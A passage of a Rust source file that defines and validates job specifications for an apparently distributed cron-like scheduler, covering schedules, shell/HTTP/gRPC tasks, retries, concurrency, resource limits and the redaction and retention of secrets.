//! The job model (`JobSpec`) and its validation. Every limit on a spec lives here.
//!
//! A spec is valid when it parses (unknown fields are rejected), its schedule parses in its
//! timezone, and every field is within the limits below. Errors name the field (dotted path,
//! e.g. `task.command`) and say what is wrong.

use std::collections::BTreeMap;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::duration::HumanDuration;
use crate::keys::validate_job_name;
use crate::notify::{self, NotifyTarget};
use crate::schedule::{Schedule, ScheduleCache};
use crate::size::ByteSize;
use crate::UnixMs;

/// Largest serialized spec.
pub const MAX_SPEC_BYTES: usize = 64 * 1024;
/// Longest shell command.
pub const MAX_COMMAND_BYTES: usize = 16 * 1024;
use crate::spec_maps::env_key_ok;
pub use crate::spec_maps::{MAX_MAP_ENTRIES, MAX_MAP_KEY_LEN, MAX_MAP_VALUE_LEN};
/// Longest description.
pub const MAX_DESCRIPTION_LEN: usize = 4096;
/// Longest team name.
pub const MAX_TEAM_LEN: usize = 63;
/// Longest task timeout.
pub const MAX_TIMEOUT: Duration = Duration::from_secs(7 * 24 * 3600);
/// Most retries.
pub const MAX_RETRIES: u32 = 100;
/// Longest retry backoff.
pub const MAX_BACKOFF: Duration = Duration::from_secs(24 * 3600);
/// Most shards.
pub const MAX_SHARDS: u32 = 1000;
/// Most dependent jobs per list.
pub const MAX_DEPENDENTS: usize = 32;
/// Smallest and largest per-job output cap.
pub const MAX_OUTPUT_RANGE: std::ops::RangeInclusive<u64> = 256..=16 * 1024 * 1024;
/// Default and largest `max_queue`.
pub const DEFAULT_MAX_QUEUE: u32 = 5;
pub const MAX_QUEUE: u32 = 100;
/// Default and largest `max_catchup`.
pub const DEFAULT_MAX_CATCHUP: u32 = 100;
pub const MAX_CATCHUP: u32 = 1000;
/// Largest `pause_after_failures`.
pub const MAX_PAUSE_AFTER_FAILURES: u32 = 1000;
/// Most expressions in a spec's `schedules`.
pub const MAX_SCHEDULES: usize = 10;
/// Most calendars one job may name in `skip_calendars`.
pub const MAX_SKIP_CALENDARS: usize = 10;
/// Longest `jitter`.
pub const MAX_JITTER: Duration = Duration::from_secs(3600);
/// How many of a job's next ticks a save (or a preview) looks at to find the shortest time
/// between two, which `jitter` must stay below.
pub const JITTER_GAP_SAMPLE: usize = 500;
/// Largest HTTP task body.
pub const MAX_HTTP_BODY: usize = 32 * 1024;
/// Longest HTTP task URL.
pub const MAX_URL_LEN: usize = 4096;
/// Smallest, default and largest `start_deadline`: how late a schedule tick may still be raced.
pub const START_DEADLINE_RANGE: std::ops::RangeInclusive<Duration> = Duration::from_secs(1)..=Duration::from_secs(3600);
pub const DEFAULT_START_DEADLINE: Duration = Duration::from_secs(10);
/// Shortest task timeout: below it no task can even start.
pub const MIN_TIMEOUT: Duration = Duration::from_millis(1);
/// Smallest and largest `limits.memory` (address space of each process of a shell task).
pub const MEMORY_LIMIT_RANGE: std::ops::RangeInclusive<u64> = 1 << 20..=1 << 40;
/// Smallest and largest `limits.cpu` (CPU time of each process of a shell task).
pub const CPU_LIMIT_RANGE: std::ops::RangeInclusive<Duration> =
    Duration::from_secs(1)..=Duration::from_secs(7 * 24 * 3600);
/// Smallest and largest `limits.open_files` (per process of a shell task).
pub const OPEN_FILES_RANGE: std::ops::RangeInclusive<u64> = 16..=1_048_576;

/// A job as stored at `{ns}/jobs/{job}` and accepted by `PUT /api/jobs/{job}`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct JobSpec {
    /// The job's schedule expression; empty when `schedules` gives several.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub schedule: String,
    /// Several expressions instead of `schedule`, their ticks merged (one tick per instant).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub schedules: Vec<String>,
    /// No tick before this RFC 3339 instant.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub active_from: Option<String>,
    /// No tick after this RFC 3339 instant.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub active_until: Option<String>,
    /// Each tick moved later by up to this long: by a delay that is a function of the job's
    /// name and the tick, the same on every worker.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub jitter: Option<HumanDuration>,
    /// Calendars (`PUT /api/calendars/{name}`) whose dates the job skips: a tick on one is
    /// recorded `skipped`, naming the calendar.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skip_calendars: Vec<String>,
    #[serde(default = "default_timezone")]
    pub timezone: String,
    #[serde(default = "default_true")]
    pub enabled: bool,
    pub task: Task,
    /// Kill the task (TERM to its process group, then KILL) after this long.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub timeout: Option<HumanDuration>,
    #[serde(default)]
    pub retries: Retries,
    #[serde(default)]
    pub concurrency: Concurrency,
    /// Most ticks waiting in the queue (`concurrency: queue`; `DEFAULT_MAX_QUEUE` when absent).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub max_queue: Option<u32>,
    #[serde(default)]
    pub misfire: Misfire,
    /// Most missed ticks `misfire: run_all` runs after an outage (the newest ones).
    #[serde(default = "default_max_catchup")]
    pub max_catchup: u32,
    /// A schedule tick not raced within this long after its time is handed to `misfire`
    /// (`DEFAULT_START_DEADLINE` when absent).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub start_deadline: Option<HumanDuration>,
    #[serde(default)]
    pub on_worker_loss: OnWorkerLoss,
    #[serde(default)]
    pub mode: Mode,
    /// Only workers whose labels include all of these may run the job.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub selector: BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub on_success: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub on_failure: Vec<String>,
    /// Set by the master on every save, never by the client (what is sent is replaced): for
    /// each dependent (`on_success` / `on_failure`) outside the job's own team, the team it
    /// had (`null`: none) when the saver's operator role on it was checked. Workers trigger
    /// such a dependent only while it is still of that team
    /// ([`crate::dependency::may_trigger`]).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub dependency_teams: BTreeMap<String, Option<String>>,
    /// The team the job belongs to: callers see and touch it only with a role on this team (or
    /// a global role); a job without a team is for global roles only.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub team: Option<String>,
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub description: String,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub labels: BTreeMap<String, String>,
    /// Bytes of output kept per execution (head + tail); the worker's `max_output` when absent
    /// and never more than it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub max_output: Option<u64>,
    /// Resource limits of each process of a shell task (`output` applies to any task).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub limits: Option<Limits>,
    /// Webhooks told about this job's outcomes (`crate::notify`). Absent: the worker's default
    /// targets; `[]`: none at all.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub notify: Option<Vec<NotifyTarget>>,
    /// Pause the job after this many final failures in a row (and again after as many more
    /// once resumed while still failing).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pause_after_failures: Option<u32>,
    /// SLA alerts (`crate::alerts`): `late`, `long_running`, `stale`, `output_match`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub alerts: Option<crate::alerts::Alerts>,
}

/// `limits`: applied with `setrlimit` to the task's shell before it runs, so each process of
/// the task (the shell and everything it starts) gets these limits on its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Limits {
    /// Address space (`RLIMIT_AS`): allocations beyond it fail.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub memory: Option<ByteSize>,
    /// CPU time (`RLIMIT_CPU`): SIGXCPU when used up, SIGKILL shortly after.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cpu: Option<HumanDuration>,
    /// Open file descriptors (`RLIMIT_NOFILE`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub open_files: Option<u64>,
    /// Another name for the spec's `max_output` (bytes of output kept); both may be given only
    /// with the same value.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub output: Option<ByteSize>,
}

impl Limits {
    /// Whether any process limit (memory, cpu, open files) is set.
    #[must_use]
    pub fn limits_processes(&self) -> bool {
        self.memory.is_some() || self.cpu.is_some() || self.open_files.is_some()
    }

    /// The process limits in words, e.g. `memory 64MiB, cpu 2s, open files 32`; empty when none.
    #[must_use]
    pub fn describe(&self) -> String {
        let mut parts = Vec::new();
        if let Some(m) = self.memory {
            parts.push(format!("memory {m}"));
        }
        if let Some(c) = self.cpu {
            parts.push(format!("cpu {c}"));
        }
        if let Some(n) = self.open_files {
            parts.push(format!("open files {n}"));
        }
        parts.join(", ")
    }
}

impl JobSpec {
    /// Most ticks waiting in the job's queue.
    #[must_use]
    pub fn queue_limit(&self) -> usize {
        usize::try_from(self.max_queue.unwrap_or(DEFAULT_MAX_QUEUE)).unwrap_or(usize::MAX)
    }
}

fn default_max_catchup() -> u32 {
    DEFAULT_MAX_CATCHUP
}

fn default_timezone() -> String {
    "UTC".to_owned()
}
fn default_true() -> bool {
    true
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "lowercase")]
pub enum Task {
    Shell(ShellTask),
    Http(HttpTask),
    Grpc(GrpcTask),
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ShellTask {
    /// Run with `/bin/sh -c`.
    pub command: String,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub env: BTreeMap<String, String>,
    /// Environment variables the API never shows: reads give `null` for each value, and a
    /// `null` in a PUT keeps the stored value.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub secret_env: Secrets,
    /// The variables a manual run may set (`crate::params`): no other name, and never one of
    /// `env` or `secret_env`.
    #[serde(default, skip_serializing_if = "Params::is_empty")]
    pub params: Params,
    /// Working directory (absolute); the worker's own when absent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cwd: Option<String>,
    /// Run as this user (a name from the worker's user database): only workers that run as
    /// root and list the user in their `run_as_users` race for the job's ticks.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// Run with this group instead of the user's primary one; it must be one of the user's
    /// groups on the worker. Needs `user`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub group: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct HttpTask {
    #[serde(default = "default_method")]
    pub method: String,
    pub url: String,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub headers: BTreeMap<String, String>,
    /// Headers the API never shows (e.g. `Authorization`), as `secret_env`.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub secret_headers: Secrets,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub body: Option<String>,
    /// The status that counts as success; any 2xx when absent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expect_status: Option<u16>,
    /// The endpoint answers `202 Accepted` and a status URL, polled until the work ends
    /// (`crate::http_async`).
    #[serde(default, rename = "async", skip_serializing_if = "Option::is_none")]
    pub asynchronous: Option<Box<crate::http_async::AsyncPoll>>,
}

pub use crate::grpc::GrpcTask;
pub use crate::headers::Secrets;
pub use crate::params::Params;
pub use crate::spec_error::SpecError;

/// The fields of a task that hold secrets (one per kind): `secret_env`, `secret_headers`,
/// `secret_metadata`.
pub const TASK_SECRET_FIELDS: [&str; 3] = ["secret_env", "secret_headers", "secret_metadata"];

/// A secret that a PUT asks to keep has no stored value to keep.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MissingSecret {
    pub field: String,
    /// Why it cannot be kept.
    pub why: String,
}

impl MissingSecret {
    fn none_stored(field: String) -> Self {
        Self {
            field,
            why: "a null secret keeps the stored value, but this job has none stored; give the value".to_owned(),
        }
    }
}

impl Task {
    fn secrets_mut(&mut self) -> (&'static str, &mut Secrets) {
        match self {
            Task::Shell(t) => ("task.secret_env", &mut t.secret_env),
            Task::Http(t) => ("task.secret_headers", &mut t.secret_headers),
            Task::Grpc(t) => ("task.secret_metadata", &mut t.secret_metadata),
        }
    }

    /// The task's secrets and the field that holds them (`task.secret_env`, …).
    #[must_use]
    pub fn secrets_field(&self) -> (&'static str, &Secrets) {
        match self {
            Task::Shell(t) => ("task.secret_env", &t.secret_env),
            Task::Http(t) => ("task.secret_headers", &t.secret_headers),
            Task::Grpc(t) => ("task.secret_metadata", &t.secret_metadata),
        }
    }

    fn secrets(&self) -> &Secrets {
        self.secrets_field().1
    }

    /// The kind as specs write it: `shell`, `http`, `grpc`.
    #[must_use]
    pub fn kind(&self) -> &'static str {
        match self {
            Task::Shell(_) => "shell",
            Task::Http(_) => "http",
            Task::Grpc(_) => "grpc",
        }
    }

    /// Where an HTTP or gRPC task sends its requests (its URL or endpoint): the secrets kept for
    /// it go there only. `None` for shell tasks.
    #[must_use]
    pub fn destination_url(&self) -> Option<&str> {
        match self {
            Task::Shell(_) => None,
            Task::Http(h) => Some(&h.url),
            Task::Grpc(g) => Some(&g.endpoint),
        }
    }

    /// The secrets (`task.secret_env.K`, `task.secret_headers.K`, `task.secret_metadata.K`)
    /// whose values differ between two tasks, or that only one of them has.
    #[must_use]
    pub fn changed_secrets(&self, other: &Task) -> Vec<String> {
        let (field, mine) = self.secrets_field();
        let theirs = other.secrets();
        let keys: std::collections::BTreeSet<&String> = mine.keys().chain(theirs.keys()).collect();
        keys.into_iter().filter(|k| mine.get(*k) != theirs.get(*k)).map(|k| format!("{field}.{k}")).collect()
    }
}

fn default_method() -> String {
    "GET".to_owned()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Retries {
    #[serde(default)]
    pub max: u32,
    #[serde(default = "default_backoff")]
    pub backoff: HumanDuration,
    #[serde(default = "default_max_backoff")]
    pub max_backoff: HumanDuration,
}

fn default_backoff() -> HumanDuration {
    HumanDuration::from_secs(10)
}
fn default_max_backoff() -> HumanDuration {
    HumanDuration::from_secs(300)
}

impl Retries {
    /// The wait before attempt `failed_attempt + 1`: `backoff * 2^(failed_attempt - 1)`, capped
    /// at `max_backoff`, then jittered into its upper half by `jitter` in `[0, 1]` (so retries
    /// of many ticks that failed together spread out).
    #[must_use]
    pub fn delay(&self, failed_attempt: u32, jitter: f64) -> Duration {
        let exp = failed_attempt.saturating_sub(1).min(32);
        let full = self.backoff.0.saturating_mul(1u32 << exp.min(31)).min(self.max_backoff.0);
        full.mul_f64(0.5 + 0.5 * jitter.clamp(0.0, 1.0))
    }
}

impl Default for Retries {
    fn default() -> Self {
        Self { max: 0, backoff: default_backoff(), max_backoff: default_max_backoff() }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Concurrency {
    #[default]
    Allow,
    Forbid,
    Replace,
    /// A tick that finds a run going waits in the job's queue (`{ns}/queue/{job}/`) and runs
    /// when the runs before it have ended, oldest first; beyond `max_queue` it is skipped.
    Queue,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Misfire {
    #[default]
    Skip,
    RunOnce,
    RunAll,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OnWorkerLoss {
    #[default]
    Rerun,
    MarkLost,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    #[default]
    Single,
    Broadcast,
    Sharded(u32),
}

impl JobSpec {
    /// The user a shell task runs as, when it names one.
    #[must_use]
    pub fn run_as_user(&self) -> Option<&str> {
        match &self.task {
            Task::Shell(shell) => shell.user.as_deref(),
            Task::Http(_) | Task::Grpc(_) => None,
        }
    }

    /// Parses and validates a JSON spec (the body of `PUT /api/jobs/{job}`).
    pub fn from_json(bytes: &[u8]) -> Result<Self, SpecError> {
        Self::from_value(json_value(bytes)?)
    }

    /// Like [`JobSpec::from_json`], with the schedule of job `job` parsed through `cache` and
    /// handed back: a worker loading many jobs parses each distinct schedule once.
    pub fn from_json_cached(bytes: &[u8], job: &str, cache: &mut ScheduleCache) -> Result<(Self, Schedule), SpecError> {
        let spec = Self::decode(json_value(bytes)?)?;
        let schedule = spec.validate_with(&mut |expression, timezone| cache.get(expression, timezone))?;
        let jitter_ms = spec.jitter_ms();
        Ok((spec, schedule.jittered(job, jitter_ms)))
    }

    /// Parses and validates a spec already decoded into a JSON value.
    pub fn from_value(value: serde_json::Value) -> Result<Self, SpecError> {
        let spec = Self::decode(value)?;
        spec.validate()?;
        Ok(spec)
    }

    /// Reads a spec from a JSON value without validating its fields.
    fn decode(value: serde_json::Value) -> Result<Self, SpecError> {
        objects_only(&value)?;
        // `task` is internally tagged, which makes serde lose the path of errors inside it:
        // check the task on its own first so its errors name e.g. `task.command`.
        if let Some(task) = value.get("task").and_then(|t| t.as_object()) {
            let mut body = task.clone();
            if let Some(kind) = body.remove("kind").as_ref().and_then(|k| k.as_str()) {
                let body = serde_json::Value::Object(body);
                let checked = match kind {
                    "shell" => serde_path_to_error::deserialize::<_, ShellTask>(body).map(drop),
                    "http" => serde_path_to_error::deserialize::<_, HttpTask>(body).map(drop),
                    "grpc" => serde_path_to_error::deserialize::<_, GrpcTask>(body).map(drop),
                    _ => Ok(()),
                };
                if let Err(e) = checked {
                    let path = e.path().to_string();
                    let path = if path == "." { "task".to_owned() } else { format!("task.{path}") };
                    return Err(serde_error(&path, &e.into_inner().to_string(), false));
                }
            }
        }
        serde_path_to_error::deserialize(value).map_err(|e| {
            let path = e.path().to_string();
            serde_error(&path, &e.into_inner().to_string(), false)
        })
    }

    /// Checks every field; the schedule is parsed in the spec's timezone.
    pub fn validate(&self) -> Result<(), SpecError> {
        self.validate_with(&mut Schedule::parse).map(drop)
    }

    /// Checks every field, parsing the schedule with `parse`; returns the parsed schedule.
    fn validate_with(
        &self,
        parse: &mut dyn FnMut(&str, &str) -> Result<Schedule, crate::schedule::ScheduleError>,
    ) -> Result<Schedule, SpecError> {
        let schedule = self.schedule_with(parse)?;
        match &self.task {
            Task::Shell(shell) => validate_shell(shell)?,
            Task::Http(http) => validate_http(http)?,
            Task::Grpc(grpc) => crate::grpc::validate(grpc)?,
        }
        self.validate_timing()?;
        self.validate_skip_calendars()?;
        self.validate_runs()?;
        validate_map("selector", &self.selector, label_key_ok)?;
        validate_map("labels", &self.labels, label_key_ok)?;
        self.validate_dependencies()?;
        if let Some(n) = self.max_output {
            if !MAX_OUTPUT_RANGE.contains(&n) {
                return Err(SpecError::at(
                    "max_output",
                    format!("must be between {} and {} bytes", MAX_OUTPUT_RANGE.start(), MAX_OUTPUT_RANGE.end()),
                ));
            }
        }
        if let Some(limits) = &self.limits {
            validate_limits(limits, &self.task, self.max_output)?;
        }
        if self.description.len() > MAX_DESCRIPTION_LEN {
            return Err(SpecError::at("description", format!("longer than {MAX_DESCRIPTION_LEN} bytes")));
        }
        if let Some(team) = &self.team {
            validate_team(team).map_err(|m| SpecError::at("team", m))?;
        }
        if let Some(targets) = &self.notify {
            notify::validate_targets("notify", targets)?;
        }
        Ok(schedule)
    }

    /// `timeout`, `retries` and `start_deadline`.
    fn validate_timing(&self) -> Result<(), SpecError> {
        if let Some(t) = self.timeout {
            if t.0 < MIN_TIMEOUT || t.0 > MAX_TIMEOUT {
                return Err(SpecError::at(
                    "timeout",
                    format!("must be between {} and {}", HumanDuration(MIN_TIMEOUT), HumanDuration(MAX_TIMEOUT)),
                ));
            }
        }
        if self.retries.max > MAX_RETRIES {
            return Err(SpecError::at("retries.max", format!("must be at most {MAX_RETRIES}")));
        }
        if self.retries.max_backoff.0 > MAX_BACKOFF {
            return Err(SpecError::at(
                "retries.max_backoff",
                format!("must be at most {}", HumanDuration(MAX_BACKOFF)),
            ));
        }
        if self.retries.backoff > self.retries.max_backoff {
            return Err(SpecError::at("retries.backoff", "must not exceed retries.max_backoff"));
        }
        if let Some(d) = self.start_deadline {
            if !START_DEADLINE_RANGE.contains(&d.0) {
                return Err(SpecError::at(
                    "start_deadline",
                    format!(
                        "must be between {} and {}",
                        HumanDuration(*START_DEADLINE_RANGE.start()),
                        HumanDuration(*START_DEADLINE_RANGE.end())
                    ),
                ));
            }
        }
        Ok(())
    }

    /// `jitter`, `pause_after_failures`, `alerts`, the concurrency policy and its queue,
    /// `max_catchup` and the shard count.
    fn validate_runs(&self) -> Result<(), SpecError> {
        if self.jitter.is_some_and(|j| j.0.is_zero() || j.0 > MAX_JITTER) {
            return Err(SpecError::at(
                "jitter",
                format!("must be more than 0 and at most {} (leave it out for none)", HumanDuration(MAX_JITTER)),
            ));
        }
        if self.pause_after_failures.is_some_and(|n| n == 0 || n > MAX_PAUSE_AFTER_FAILURES) {
            return Err(SpecError::at(
                "pause_after_failures",
                format!("must be between 1 and {MAX_PAUSE_AFTER_FAILURES} (leave it out to never pause)"),
            ));
        }
        if let Some(alerts) = &self.alerts {
            alerts.validate("alerts")?;
        }
        match (self.concurrency, self.max_queue) {
            (Concurrency::Queue, Some(n)) if n == 0 || n > MAX_QUEUE => {
                return Err(SpecError::at("max_queue", format!("must be between 1 and {MAX_QUEUE}")));
            }
            (Concurrency::Queue, _) if self.mode != Mode::Single => {
                return Err(SpecError::at("concurrency", "\"queue\" is for single-execution jobs (mode single)"));
            }
            (Concurrency::Queue, _) | (_, None) => {}
            (_, Some(_)) => return Err(SpecError::at("max_queue", "applies only to concurrency \"queue\"")),
        }
        if self.max_catchup == 0 || self.max_catchup > MAX_CATCHUP {
            return Err(SpecError::at("max_catchup", format!("must be between 1 and {MAX_CATCHUP}")));
        }
        if let Mode::Sharded(n) = self.mode {
            if n == 0 || n > MAX_SHARDS {
                return Err(SpecError::at("mode.sharded", format!("shard count must be between 1 and {MAX_SHARDS}")));
            }
        }
        Ok(())
    }

    /// `on_success`, `on_failure` and the teams recorded for them.
    fn validate_dependencies(&self) -> Result<(), SpecError> {
        for (field, list) in [("on_success", &self.on_success), ("on_failure", &self.on_failure)] {
            if list.len() > MAX_DEPENDENTS {
                return Err(SpecError::at(field, format!("at most {MAX_DEPENDENTS} jobs")));
            }
            for (i, name) in list.iter().enumerate() {
                validate_job_name(name).map_err(|m| SpecError::at(&format!("{field}[{i}]"), m))?;
            }
        }
        if self.dependency_teams.len() > 2 * MAX_DEPENDENTS {
            return Err(SpecError::at("dependency_teams", format!("at most {} entries", 2 * MAX_DEPENDENTS)));
        }
        for (name, team) in &self.dependency_teams {
            validate_job_name(name).map_err(|m| SpecError::at("dependency_teams", m))?;
            if let Some(team) = team {
                validate_team(team).map_err(|m| SpecError::at("dependency_teams", m))?;
            }
        }
        Ok(())
    }

    /// Whether any secret of the task is `null` (withheld, or "keep it" in a PUT).
    #[must_use]
    pub fn task_withholds_secrets(&self) -> bool {
        self.task.secrets().values().any(Option::is_none)
    }

    /// Whether any secret (of the task or of a `notify` target) is `null`, or a URL carries the
    /// password views show in place of the stored one.
    #[must_use]
    pub fn withholds_secrets(&self) -> bool {
        let shown_password =
            match &self.task {
                Task::Http(h) => crate::headers::shows_password(&h.url),
                Task::Shell(_) | Task::Grpc(_) => false,
            } || self.notify.iter().flatten().any(|t| t.url.as_deref().is_some_and(crate::headers::shows_password));
        shown_password
            || self.task_withholds_secrets()
            || self.notify.iter().flatten().any(NotifyTarget::withholds_secrets)
    }

    /// The spec as the API shows it: every secret value withheld (`null`).
    #[must_use]
    pub fn redacted(&self) -> Self {
        let mut spec = self.clone();
        for value in spec.task.secrets_mut().1.values_mut() {
            *value = None;
        }
        if let Task::Http(http) = &mut spec.task {
            http.url = crate::headers::shown_url(&http.url);
        }
        if let Some(targets) = &mut spec.notify {
            *targets = targets.iter().map(NotifyTarget::redacted).collect();
        }
        spec
    }

    /// Fills each withheld (`null`) secret from `stored`, the spec being replaced, when it is a
    /// task of the same kind with that secret, and a URL password shown as `redacted` from the
    /// stored URL. Secrets kept for an HTTP task's URL (a gRPC task's endpoint) are kept only
    /// while it points at the same destination (scheme, host, port). Errors name the first
    /// secret that cannot be kept.
    pub fn keep_secrets(&mut self, stored: Option<&JobSpec>) -> Result<(), MissingSecret> {
        if let Task::Http(http) = &mut self.task {
            let stored_url = stored.and_then(|s| match &s.task {
                Task::Http(h) => Some(h.url.as_str()),
                _ => None,
            });
            http.url = crate::headers::keep_url_password(&http.url, stored_url)
                .map_err(|why| MissingSecret { field: "task.url".to_owned(), why })?;
        }
        let moved = match (self.task.destination_url(), stored.and_then(|s| s.task.destination_url())) {
            (Some(url), Some(old)) => crate::headers::destination_changed(url, old),
            _ => None,
        };
        let kept = stored.map(|s| s.task.secrets());
        let same_kind = stored.is_some_and(|s| std::mem::discriminant(&s.task) == std::mem::discriminant(&self.task));
        let (field, secrets) = self.task.secrets_mut();
        for (name, value) in secrets.iter_mut() {
            if value.is_none() {
                if let Some(why) = &moved {
                    return Err(MissingSecret { field: format!("{field}.{name}"), why: why.clone() });
                }
                *value = kept.filter(|_| same_kind).and_then(|k| k.get(name).cloned().flatten());
                if value.is_none() {
                    return Err(MissingSecret::none_stored(format!("{field}.{name}")));
                }
            }
        }
        if let Some(targets) = &mut self.notify {
            let stored = stored.and_then(|s| s.notify.as_deref()).unwrap_or_default();
            notify::keep_secrets("notify", targets, stored).map_err(|(field, why)| MissingSecret {
                field,
                why: why.unwrap_or_else(|| MissingSecret::none_stored(String::new()).why),
            })?;
        }
        Ok(())
    }

    /// How late a schedule tick may still be raced: `start_deadline`, or the default.
    #[must_use]
    pub fn start_deadline(&self) -> Duration {
        self.start_deadline.map_or(DEFAULT_START_DEADLINE, |d| d.0)
    }

    /// Bytes of output to keep, from `max_output` or its other name `limits.output`.
    #[must_use]
    pub fn output_limit(&self) -> Option<u64> {
        self.max_output.or(self.limits.and_then(|l| l.output).map(|o| o.0))
    }

    /// The parsed schedule of job `job`: `schedule` or `schedules` in `timezone` within
    /// `active_from` and `active_until`, its ticks moved by `jitter`. Valid specs always parse;
    /// the error is for specs read from etcd that were written by something other than the
    /// master.
    pub fn parsed_schedule(&self, job: &str) -> Result<Schedule, SpecError> {
        Ok(self.schedule_with(&mut Schedule::parse)?.jittered(job, self.jitter_ms()))
    }

    fn validate_skip_calendars(&self) -> Result<(), SpecError> {
        if self.skip_calendars.len() > MAX_SKIP_CALENDARS {
            return Err(SpecError::at("skip_calendars", format!("at most {MAX_SKIP_CALENDARS} calendars")));
        }
        for (i, name) in self.skip_calendars.iter().enumerate() {
            let field = format!("skip_calendars[{i}]");
            validate_job_name(name).map_err(|e| SpecError::at(&field, e.replace("job name", "calendar name")))?;
            if self.skip_calendars[..i].contains(name) {
                return Err(SpecError::at(&field, format!("{name:?} is listed twice")));
            }
        }
        Ok(())
    }

    /// `jitter` in ms; 0 when absent.
    #[must_use]
    pub fn jitter_ms(&self) -> i64 {
        self.jitter.map_or(0, |j| i64::try_from(j.0.as_millis()).unwrap_or(i64::MAX))
    }

    /// Whether `other` has the same fire times: the same expressions, window and timezone.
    #[must_use]
    pub fn same_timing(&self, other: &Self) -> bool {
        self.schedule == other.schedule
            && self.schedules == other.schedules
            && self.active_from == other.active_from
            && self.active_until == other.active_until
            && self.jitter == other.jitter
            && self.timezone == other.timezone
    }

    /// The expressions of the spec with the field each is at: `schedule`, or `schedules[i]`.
    #[must_use]
    pub fn expressions(&self) -> Vec<(String, &str)> {
        if self.schedules.is_empty() {
            return vec![("schedule".to_owned(), self.schedule.as_str())];
        }
        self.schedules.iter().enumerate().map(|(i, e)| (format!("schedules[{i}]"), e.as_str())).collect()
    }

    /// Parses the schedule fields with `parse` into one schedule.
    fn schedule_with(
        &self,
        parse: &mut dyn FnMut(&str, &str) -> Result<Schedule, crate::schedule::ScheduleError>,
    ) -> Result<Schedule, SpecError> {
        match (self.schedule.is_empty(), self.schedules.len()) {
            (true, 0) => return Err(SpecError::at("schedule", "a schedule is required (schedule, or schedules)")),
            (false, n) if n > 0 => {
                return Err(SpecError::at("schedules", "give either schedule or schedules, not both"))
            }
            _ => {}
        }
        let window = Window { from: self.active_from.as_deref(), until: self.active_until.as_deref() };
        schedule_of(&self.expressions(), &self.timezone, window, parse)
    }
}

/// The `active_from` and `active_until` of a schedule, as given.
#[derive(Debug, Clone, Copy, Default)]
pub struct Window<'a> {
    pub from: Option<&'a str>,
    pub until: Option<&'a str>,
}

/// One schedule from several expressions (each with the field or parameter it came from) in
/// `timezone` within `window`, parsed with `parse`: the rule a spec's schedule and the
/// preview share. More than one expression: none may be `@at`, none listed twice.
pub fn schedule_of(
    expressions: &[(String, &str)],
    timezone: &str,
    window: Window<'_>,
    parse: &mut dyn FnMut(&str, &str) -> Result<Schedule, crate::schedule::ScheduleError>,
) -> Result<Schedule, SpecError> {
    use crate::schedule::ScheduleError;
    if expressions.len() > MAX_SCHEDULES {
        let field = expressions[MAX_SCHEDULES].0.split('[').next().unwrap_or("schedules");
        return Err(SpecError::at(field, format!("at most {MAX_SCHEDULES} expressions")));
    }
    let mut parsed = Vec::with_capacity(expressions.len());
    for (i, (field, expression)) in expressions.iter().enumerate() {
        let schedule = parse(expression, timezone).map_err(|e| match e {
            ScheduleError::Timezone(_) => SpecError::at("timezone", e.to_string()),
            _ => SpecError::at(field, e.to_string()),
        })?;
        if expressions.len() > 1 && schedule.is_one_shot() {
            return Err(SpecError::at(field, "@at is for a one-shot job: give it as the only schedule"));
        }
